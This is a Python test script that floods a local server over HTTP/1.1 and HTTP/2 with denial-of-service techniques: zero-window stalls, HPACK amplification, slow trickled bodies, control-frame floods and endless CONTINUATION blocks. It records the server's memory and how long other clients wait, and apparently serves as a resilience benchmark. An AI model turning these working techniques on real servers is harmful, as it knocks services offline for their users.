#!/usr/bin/env python3
"""Clients that do their worst over HTTP/1.1 and HTTP/2, and what becomes of the server's memory and of other clients.

    http_attack.py --pid PID --http PORT --https PORT --mode MODE [--connections 1000] [--addresses 1] [--seconds 30]

Modes: window0 (a hundred requests of which nothing is taken), hpack (heads of one byte a field, with bodies that never
end), bodies (a byte of a small body now and then), trickle (DATA frames byte by byte), settings, priority, ping (floods of
control frames), continuation (a header block that never ends), heads1, bodies1, unread1 (the same over HTTP/1.1), all
(each connection another one). Connections come from 127.0.1.1 and the addresses after it; who is closed comes again.
Prints a line of JSON: memory before, at its highest, at the end and 30 seconds after it; how long others waited.
"""
import argparse
import json
import multiprocessing
import random
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, SETTINGS, PING, CONTINUATION = 0, 1, 2, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
LARGE = b"/api/v1/openapi.json"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value


def long_text(value):
    """A string of up to 254 + 16,384 bytes (RFC 7541 §5.1)."""
    if len(value) < 127:
        return text(value)
    rest, out = len(value) - 127, b"\x7f"
    while rest >= 128:
        out += bytes([rest & 127 | 128])
        rest >>= 7
    return out + bytes([rest]) + value


def head(method, path):
    return bytes([0x82 if method == "GET" else 0x83, 0x87]) + b"\x04" + text(path) + b"\x01" + text(b"localhost")


def window0():
    out = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for number in range(100):
        out += frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, head("GET", LARGE))
    return out


def amplified(fields, value_length):
    """Each stream has a head whose fields are references to one entry of the dynamic table."""
    out = PREFACE + frame(SETTINGS, 0, 0)
    entry = b"\x40" + text(b"x-a") + long_text(b"v" * value_length)
    for number in range(100):
        block = head("POST", b"/api/v1/session") + (entry if number == 0 else b"\xbe") + b"\xbe" * (fields - 1)
        out += frame(HEADERS, END_HEADERS, 2 * number + 1, block)
    return out


def bodies():
    out = PREFACE + frame(SETTINGS, 0, 0)
    for number in range(100):
        out += frame(HEADERS, END_HEADERS, 2 * number + 1, head("POST", b"/api/v1/session"))
        out += frame(DATA, 0, 2 * number + 1, b"{" + b" " * 600)
    return out


def continuation():
    block = head("GET", b"/") + b"\x00" + text(b"x-a") + long_text(b"v" * 12_000)
    return (PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM, 1, block)
            + frame(CONTINUATION, 0, 1, b"\x00" + text(b"x-b") + long_text(b"v" * 12_000)))


MODES = {
    "window0": (window0, None),
    "hpack": (lambda: amplified(450, 20), lambda: b""),
    "hpack90": (lambda: amplified(90, 300), lambda: b""),
    "bodies": (bodies, lambda: b"".join(frame(DATA, 0, 2 * n + 1, b" ") for n in range(100))),
    "trickle": (bodies, lambda: frame(DATA, 0, 2 * random.randrange(100) + 1, b" ")),
    "settings": (lambda: PREFACE + frame(SETTINGS, 0, 0), lambda: frame(SETTINGS, 0, 0) * 50),
    "priority": (lambda: PREFACE + frame(SETTINGS, 0, 0), lambda: frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 50),
    "ping": (lambda: PREFACE + frame(SETTINGS, 0, 0), lambda: frame(PING, 0, 0, b"12345678") * 50),
    "continuation": (continuation, lambda: b""),
}
PLAIN = {
    "heads1": (lambda: b"GET / HTTP/1.1\r\nHost: h\r\nX-A: " + b"v" * 12_000 + b"\r\nX-B: " + b"v" * 12_000, lambda: b"v"),
    "bodies1": (lambda: b"POST /api/v1/session HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n"
                b"Content-Length: 16000\r\n\r\n{" + b" " * 12_000, lambda: b" "),
    "unread1": (lambda: b"GET " + LARGE + b" HTTP/1.1\r\nHost: h\r\n\r\nGET " + LARGE + b" HTTP/1.1\r\nHost: h\r\n\r\n", None),
}


def memory(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS"):
                return int(line.split()[1]) / 1024
    return 0


def others(port, seconds, results):
    """Somebody else, who asks for a small page on a connection of his own."""
    waits, errors, end = [], 0, time.time() + seconds
    while time.time() < end:
        began = time.perf_counter()
        try:
            with socket.create_connection(("127.0.0.1", port), 10, ("127.0.0.99", 0)) as client:
                client.sendall(b"GET /healthz HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n")
                answer = b""
                while piece := client.recv(65536):
                    answer += piece
                errors += not answer.startswith(b"HTTP/1.1 200")
        except OSError:
            errors += 1
        waits.append((time.perf_counter() - began) * 1e3)
        time.sleep(0.02)
    waits.sort()
    results.put({"requests": len(waits), "errors": errors, "p50_ms": round(waits[len(waits) // 2], 1),
                 "p99_ms": round(waits[int(len(waits) * 0.99)], 1), "max_ms": round(waits[-1], 1)})


class Attacker:
    def __init__(self, arguments, number):
        self.port, self.number = arguments.https, number
        modes = MODES | PLAIN
        names = list(modes) if arguments.mode == "all" else [arguments.mode]
        self.name = names[number % len(names)]
        self.begin, self.more = modes[self.name]
        self.source = "127.0.%d.%d" % (1 + number % arguments.addresses // 250, 1 + number % arguments.addresses % 250)
        self.context = arguments.plain_context if self.name in PLAIN else arguments.context
        self.receive = self.name not in ("unread1",)
        self.socket = None

    def connect(self):
        raw = socket.socket()
        raw.settimeout(20)
        raw.setsockopt(socket.SOL_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.bind((self.source, 0))
        raw.connect(("127.0.0.1", self.port))
        self.socket = self.context.wrap_socket(raw, server_hostname="localhost")
        self.socket.sendall(self.begin())
        self.socket.setblocking(False)

    def go_on(self):
        if self.more and (data := self.more()):
            try:
                self.socket.send(data)
            except (ssl.SSLWantWriteError, BlockingIOError):
                pass

    def drain(self):
        try:
            while self.socket.recv(65536):
                pass
            return False
        except (ssl.SSLWantReadError, BlockingIOError):
            return True
        except OSError:
            return False


def attack(arguments, share, counts):
    for context, protocol in ((arguments.context, "h2"), (arguments.plain_context, "http/1.1")):
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
    attackers = [Attacker(arguments, number) for number in share]
    poll, by_descriptor = select.epoll(), {}
    end, connects, refused = time.time() + arguments.seconds, 0, 0
    waiting, beat = list(reversed(attackers)), time.time()
    while time.time() < end:
        for _ in range(50):
            if not waiting or time.time() >= end:
                break
            attacker = waiting.pop()
            try:
                attacker.connect()
                connects += 1
                by_descriptor[attacker.socket.fileno()] = attacker
                if attacker.receive:
                    poll.register(attacker.socket.fileno(), select.EPOLLIN)
            except OSError:
                refused += 1
                waiting.insert(0, attacker)
        for descriptor, _ in poll.poll(0 if waiting else 0.2, 1024):
            attacker = by_descriptor[descriptor]
            if not attacker.drain():
                poll.unregister(descriptor)
                del by_descriptor[descriptor]
                attacker.socket.close()
                waiting.insert(0, attacker)
        if time.time() - beat > 5:
            beat = time.time()
            for attacker in list(by_descriptor.values()):
                try:
                    attacker.go_on()
                except OSError:
                    pass
    counts.put((connects, refused, len(by_descriptor)))
    for attacker in by_descriptor.values():
        attacker.socket.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    for name in ("pid", "http", "https"):
        parser.add_argument(f"--{name}", type=int, required=True)
    parser.add_argument("--mode", choices=[*MODES, *PLAIN, "all"], default="window0")
    parser.add_argument("--connections", type=int, default=1_000)
    parser.add_argument("--addresses", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--after", type=float, default=30)
    arguments = parser.parse_args()
    arguments.context, arguments.plain_context = (ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT) for _ in range(2))
    rest = memory(arguments.pid)
    counts, results = multiprocessing.Queue(), multiprocessing.Queue()
    workers = 2 if arguments.connections > 500 else 1
    processes = [multiprocessing.Process(
        target=attack, args=(arguments, range(worker, arguments.connections, workers), counts))
        for worker in range(workers)]
    processes.append(multiprocessing.Process(target=others, args=(arguments.http, arguments.seconds, results)))
    for process in processes:
        process.start()
    peak, last, end = rest, rest, time.time() + arguments.seconds
    while time.time() < end:
        last = memory(arguments.pid)
        peak = max(peak, last)
        time.sleep(0.1)
    made = [counts.get() for _ in range(workers)]
    other = results.get()
    for process in processes:
        process.join()
    time.sleep(arguments.after)
    print(json.dumps({
        "mode": arguments.mode, "connections": arguments.connections, "addresses": arguments.addresses,
        "made": sum(m[0] for m in made), "refused": sum(m[1] for m in made), "open": sum(m[2] for m in made),
        "rest_MB": round(rest), "peak_MB": round(peak), "end_MB": round(last),
        f"after_{round(arguments.after)}s_MB": round(memory(arguments.pid)), "others": other}))


if __name__ == "__main__":
    main()
